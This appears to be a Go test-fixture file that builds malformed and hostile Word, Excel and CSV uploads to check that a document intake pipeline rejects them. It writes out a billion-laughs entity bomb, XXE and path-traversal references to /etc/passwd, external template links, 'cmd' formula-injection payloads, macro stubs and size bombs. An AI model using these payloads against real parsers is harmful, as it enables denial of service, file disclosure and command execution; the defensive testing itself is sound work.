package intaketest

import (
	"fmt"
	"strings"

	"hvidbog/app"
)

const (
	xmlHead = `<?xml version="1.0" encoding="UTF-8"?>`
	wNS     = ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	xNS     = ` xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	relNS   = ` xmlns="http://schemas.openxmlformats.org/package/2006/relationships"`
	relType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	laughs  = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>`
	outside = `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`
)

// Word is a Word file with that as its document.xml, and with other parts.
func Word(document string, parts ...Entry) []byte {
	return word(Entry{Content: document}, parts...)
}

func word(document Entry, parts ...Entry) []byte {
	document.Name = "word/document.xml"
	return Zip(append([]Entry{
		{Name: "[Content_Types].xml", Content: xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		{Name: "_rels/.rels", Content: xmlHead + `<Relationships` + relNS + `><Relationship Id="r1" Type="` + relType + `officeDocument" Target="word/document.xml"/></Relationships>`},
		document,
	}, parts...)...)
}

const (
	bodyHead = xmlHead + "<w:document" + wNS + "><w:body>"
	bodyFoot = "</w:body></w:document>"
)

func body(xml string) string { return bodyHead + xml + bodyFoot }

func paragraph(text string) string { return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>" }

func words() []Hostile {
	of := func(document string, parts ...Entry) func() []byte {
		return func() []byte { return Word(document, parts...) }
	}
	good := of(body(paragraph("Vi beder jer om at bevare Mamma Mia.")))
	return []Hostile{
		hostile("latter.docx", "entities that swell a billion times", of(strings.Replace(body(paragraph("&h;")), xmlHead, xmlHead+laughs, 1)), app.CodeFileBroken, Found),
		hostile("udenfor.docx", "an entity that is a file of ours", of(strings.Replace(body(paragraph("&a;")), xmlHead, xmlHead+outside, 1)), app.CodeFileBroken, Found),
		hostile("dyb.docx", "a million elements in each other", func() []byte {
			return Word(body(strings.Repeat("<w:p>", 1_000_000)))
		}, app.CodeFileSwells, app.CodeFileDeep),
		hostile("tabeller.docx", "tables in tables, 5,000 deep", func() []byte {
			const n = 5000
			return Word(body(strings.Repeat("<w:tbl><w:tr><w:tc>", n) + paragraph("Inderst") + strings.Repeat("</w:tc></w:tr></w:tbl>", n)))
		}, app.CodeFileBroken, app.CodeFileDeep, Found),
		hostile("attribut.docx", "an attribute of 30 MB", func() []byte {
			return Word(body(`<w:p w:x="` + strings.Repeat("a", 30<<20) + `"/>`))
		}, app.CodeFileSwells, app.CodeFileBroken, Found, app.CodeFileEmpty),
		hostile("attributter.docx", "an element with 300,000 attributes", func() []byte {
			var b strings.Builder
			for i := range 300_000 {
				fmt.Fprintf(&b, ` w:a%d=""`, i)
			}
			return Word(body(`<w:p` + b.String() + `/>` + paragraph("Kære udvalg")))
		}, app.CodeFileSwells, app.CodeFileBroken, Found),
		hostile("bombe.docx", "a document of 200 MB", func() []byte {
			return word(Entry{Swollen: swollen(bodyHead, paragraph(""), 200<<20/len(paragraph("")), bodyFoot)})
		}, app.CodeFileSwells),
		hostile("lang.docx", "half a million paragraphs", func() []byte {
			return Word(body(strings.Repeat(paragraph("Bevar Mamma Mia"), 500_000)))
		}, app.CodeFileSwells, app.CodeFileParts, Found),
		hostile("uden.docx", "no document in it", func() []byte {
			return Zip(Entry{Name: "[Content_Types].xml", Content: xmlHead + "<Types/>"})
		}, app.CodeFileBroken, app.CodeFileForeign),
		hostile("vrøvl.docx", "a document that is no XML", of("\x00\x01\x02<<<&&&"), app.CodeFileBroken),
		hostile("halv.docx", "cut off", cut(good, 70), app.CodeFileBroken),
		hostile("halv-xml.docx", "a document that is cut off", of(body(paragraph("Kære udvalg"))[:240]), app.CodeFileBroken, Found),
		hostile("makro.docm", "macros", of(body(paragraph("Kære udvalg")), Entry{Name: "word/vbaProject.bin", Content: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 AutoOpen"}), Found),
		hostile("henvist.docx", "a template, a picture and a page from another machine", of(
			body(paragraph("Kære udvalg")+`<w:altChunk r:id="r3"/>`),
			Entry{Name: "word/_rels/document.xml.rels", Content: xmlHead + `<Relationships` + relNS + `>` +
				`<Relationship Id="r1" Type="` + relType + `attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/>` +
				`<Relationship Id="r2" Type="` + relType + `image" Target="\\192.0.2.1\a\b.png" TargetMode="External"/>` +
				`<Relationship Id="r3" Type="` + relType + `aFChunk" Target="../../../../etc/passwd"/></Relationships>`},
		), Found),
		hostile("låst.docx", "a password", func() []byte {
			return Compound(Stream{"EncryptionInfo", string(make([]byte, 5000))}, Stream{"EncryptedPackage", string(make([]byte, 5000))})
		}, app.CodeFileLocked),
		hostile("koding.docx", "says it is in UTF-16, and is not", of(strings.Replace(body(paragraph("Kære udvalg")), "UTF-8", "UTF-16", 1)), app.CodeFileBroken, Found),
		hostile("ukendt-koding.docx", "an encoding that nobody knows", of(strings.Replace(body(paragraph("Kære udvalg")), "UTF-8", "KLINGON-8", 1)), app.CodeFileBroken, Found),
		hostile("ring.docx", "a document that is its own root", func() []byte {
			return Zip(
				Entry{Name: "[Content_Types].xml", Content: xmlHead + "<Types/>"},
				Entry{Name: "_rels/.rels", Content: xmlHead + `<Relationships` + relNS + `><Relationship Id="r1" Type="` + relType + `officeDocument" Target="_rels/.rels"/></Relationships>`},
			)
		}, app.CodeFileBroken, app.CodeFileForeign, Found, app.CodeFileEmpty),
		hostile("tom.docx", "no words in it", of(body("")), Found, app.CodeFileEmpty),
	}
}

// Workbook is an Excel file with that as its first sheet, and with other parts.
func Workbook(sheet string, parts ...Entry) []byte {
	return workbook([]Entry{{Content: sheet}}, parts...)
}

func workbook(sheets []Entry, parts ...Entry) []byte {
	entries := []Entry{}
	var types, list, rels strings.Builder
	for i, sheet := range sheets {
		n := i + 1
		fmt.Fprintf(&types, `<Override PartName="/xl/worksheets/sheet%d.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`, n)
		fmt.Fprintf(&list, `<sheet name="Ark%d" sheetId="%d" r:id="r%d"/>`, n, n, n)
		fmt.Fprintf(&rels, `<Relationship Id="r%d" Type="%sworksheet" Target="worksheets/sheet%d.xml"/>`, n, relType, n)
		sheet.Name = fmt.Sprintf("xl/worksheets/sheet%d.xml", n)
		entries = append(entries, sheet)
	}
	return Zip(append(append([]Entry{
		{Name: "[Content_Types].xml", Content: xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>` + types.String() + `</Types>`},
		{Name: "_rels/.rels", Content: xmlHead + `<Relationships` + relNS + `><Relationship Id="r1" Type="` + relType + `officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{Name: "xl/workbook.xml", Content: xmlHead + `<workbook` + xNS + `><sheets>` + list.String() + `</sheets></workbook>`},
		{Name: "xl/_rels/workbook.xml.rels", Content: xmlHead + `<Relationships` + relNS + `>` + rels.String() + `<Relationship Id="s" Type="` + relType + `sharedStrings" Target="sharedStrings.xml"/></Relationships>`},
	}, entries...), parts...)...)
}

const (
	sheetHead = xmlHead + "<worksheet" + xNS + ">"
	sheetFoot = "</worksheet>"
)

func sheet(before, rows, after string) string {
	return sheetHead + before + "<sheetData>" + rows + "</sheetData>" + after + sheetFoot
}

func cell(at, text string) string {
	return `<c r="` + at + `" t="inlineStr"><is><t>` + text + `</t></is></c>`
}

func workbooks() []Hostile {
	of := func(sheet string, parts ...Entry) func() []byte {
		return func() []byte { return Workbook(sheet, parts...) }
	}
	rows := `<row r="1">` + cell("A1", "Navn") + cell("B1", "Svar") + `</row><row r="2">` + cell("A2", "Anna Andersen") + cell("B2", "Bevar Mamma Mia") + `</row>`
	good := of(sheet("", rows, ""))
	whatever := []app.Code{Found, app.CodeFileBroken, app.CodeFileSwells, app.CodeFileParts, app.CodeFileMemory, app.CodeFileEmpty}
	return []Hostile{
		hostile("målløgn.xlsx", "says that it fills all that a sheet can", of(sheet(`<dimension ref="A1:XFD1048576"/>`, rows, "")), Found),
		hostile("fjern.xlsx", "a cell at the far corner", of(sheet("", rows+`<row r="1048576">`+cell("XFD1048576", "x")+`</row>`, "")), whatever...),
		hostile("rækker.xlsx", "rows that no sheet has", of(sheet("", rows+`<row r="4294967295">`+cell("A4294967295", "x")+`</row>`, "")), whatever...),
		hostile("celle.xlsx", "a cell that is nowhere", of(sheet("", rows+`<row r="-1">`+cell("ÆØÅ0", "x")+cell("", "y")+cell("ZZZZZZZZZZ1", "z")+`</row>`, "")), whatever...),
		hostile("flettet.xlsx", "all cells made into one", of(sheet("", rows, `<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>`)), whatever...),
		hostile("strenge.xlsx", "says that it has four billion texts, and points at one that it lacks", of(
			sheet("", rows+`<row r="3"><c r="A3" t="s"><v>4294967294</v></c><c r="B3" t="s"><v>-5</v></c></row>`, ""),
			Entry{Name: "xl/sharedStrings.xml", Content: xmlHead + `<sst` + xNS + ` count="4294967295" uniqueCount="4294967295"><si><t>x</t></si></sst>`},
		), whatever...),
		hostile("latter.xlsx", "entities that swell a billion times", of(
			sheet("", rows, ""),
			Entry{Name: "xl/sharedStrings.xml", Content: xmlHead + laughs + `<sst` + xNS + `><si><t>&h;</t></si></sst>`},
		), whatever...),
		hostile("bombe.xlsx", "a sheet of 200 MB", func() []byte {
			row := "<row>" + cell("", "") + "</row>"
			return workbook([]Entry{{Swollen: swollen(sheetHead+"<sheetData>", row, 200<<20/len(row), "</sheetData>"+sheetFoot)}})
		}, app.CodeFileSwells),
		hostile("formler.xlsx", "formulas that run a program", of(sheet("", rows+
			`<row r="3"><c r="A3"><f>cmd|' /C calc'!A0</f><v>1</v></c>`+cell("B3", "=cmd|' /C calc'!A0")+cell("C3", "@SUM(1+1)*cmd|' /C calc'!A0")+`</row>`, "")), Found),
		hostile("makro.xlsm", "macros", of(sheet("", rows, ""), Entry{Name: "xl/vbaProject.bin", Content: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Auto_Open"}), Found),
		hostile("låst.xlsx", "a password", func() []byte {
			return Compound(Stream{"EncryptionInfo", string(make([]byte, 5000))}, Stream{"EncryptedPackage", string(make([]byte, 5000))})
		}, app.CodeFileLocked),
		hostile("ark.xlsx", "2,000 sheets", func() []byte {
			sheets := make([]Entry, 2000)
			for i := range sheets {
				sheets[i].Content = sheet("", rows, "")
			}
			return workbook(sheets)
		}, app.CodeFileParts, app.CodeFileSwells, app.CodeFileBroken),
		hostile("dyb.xlsx", "a million elements in each other", func() []byte {
			return Workbook(sheet("", strings.Repeat("<row>", 1_000_000), ""))
		}, whatever...),
		hostile("halv.xlsx", "cut off", cut(good, 80), app.CodeFileBroken),
		hostile("ring.xlsx", "a sheet that is the list of sheets", func() []byte {
			return Zip(
				Entry{Name: "[Content_Types].xml", Content: xmlHead + "<Types/>"},
				Entry{Name: "xl/workbook.xml", Content: xmlHead + `<workbook` + xNS + `><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`},
				Entry{Name: "xl/_rels/workbook.xml.rels", Content: xmlHead + `<Relationships` + relNS + `><Relationship Id="r1" Type="` + relType + `worksheet" Target="workbook.xml"/></Relationships>`},
			)
		}, whatever...),
		hostile("ude.xlsx", "a sheet outside the file", func() []byte {
			return Zip(
				Entry{Name: "[Content_Types].xml", Content: xmlHead + "<Types/>"},
				Entry{Name: "xl/workbook.xml", Content: xmlHead + `<workbook` + xNS + `><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`},
				Entry{Name: "xl/_rels/workbook.xml.rels", Content: xmlHead + `<Relationships` + relNS + `><Relationship Id="r1" Type="` + relType + `worksheet" Target="../../../../../etc/passwd"/></Relationships>`},
			)
		}, whatever...),
	}
}

func tables() []Hostile {
	return []Hostile{
		hostile("bred.csv", "a row of five million cells", repeated("Navn;Svar\n", ";", 5_000_000, "\n"), Found, app.CodeFileParts, app.CodeFileSwells, app.CodeFileBroken, app.CodeFileMemory),
		hostile("lang.csv", "a million rows", repeated("Navn;Svar\n", "a;b\n", 1_000_000, ""), Found, app.CodeFileParts, app.CodeFileSwells),
		hostile("citat.csv", "a quotation mark that is never closed", repeated("Navn;Svar\nAnna;\"", "Bevar Mamma Mia\n", 300_000, ""), Found, app.CodeFileBroken),
		hostile("anførsel.csv", "nothing but quotation marks", repeated("Navn;Svar\n", "\"", 4_000_001, ""), Found, app.CodeFileBroken, app.CodeFileEmpty),
		hostile("formler.csv", "formulas that run a program", as("Navn;Svar\n=cmd|' /C calc'!A0;+1+1\n@x;-2\n\t=1;\r=2\n"), Found),
		hostile("nul.csv", "bytes that no text has", as("Navn;Svar\nAn\x00na;Ja\n"), app.CodeFileForeign, app.CodeFileEncoding, app.CodeFileBroken),
		hostile("utf16.csv", "UTF-16 that ends in the middle of a letter", as("\xff\xfeN\x00;\x00S\x00\n\x00a\x00;\x00b"), Found, app.CodeFileBroken, app.CodeFileEncoding),
		hostile("sep.csv", "nothing but what parts it", as("sep=;\n"), Found, app.CodeFileEmpty),
	}
}
